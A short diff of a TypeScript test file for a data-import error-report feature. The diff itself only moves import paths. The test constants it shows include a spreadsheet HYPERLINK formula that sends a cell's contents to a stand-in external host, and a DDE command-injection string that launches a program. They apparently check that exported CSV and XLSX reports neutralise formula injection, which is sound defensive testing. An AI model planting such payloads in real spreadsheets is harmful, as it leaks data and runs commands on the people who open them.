@@ -11,8 +11,8 @@ import ExcelJS from 'exceljs';
 import { afterAll, beforeAll, expect, it } from 'vitest';
 import { forEachDriver } from '../support/db.ts';
 import { ACCOUNTS, CITY, createTestApp, receptionBody, WARD, type Session, type TestApp } from '../support/api.ts';
-import { writeErrorReportCsv, writeErrorReportXlsx } from '../../src/app/imports/error-report.ts';
-import { createImportJob, insertRejections } from '../../src/db/import-store.ts';
+import { writeErrorReportCsv, writeErrorReportXlsx } from '../../src/features/imports/error-report.ts';
+import { createImportJob, insertRejections } from '../../src/features/imports/imports.store.ts';
 
 const NAME = '=HYPERLINK("http://ke-xau.example/?d="&A1,"Bấm vào đây")';
 const ADDRESS = "+cmd|' /C calc'!A0";
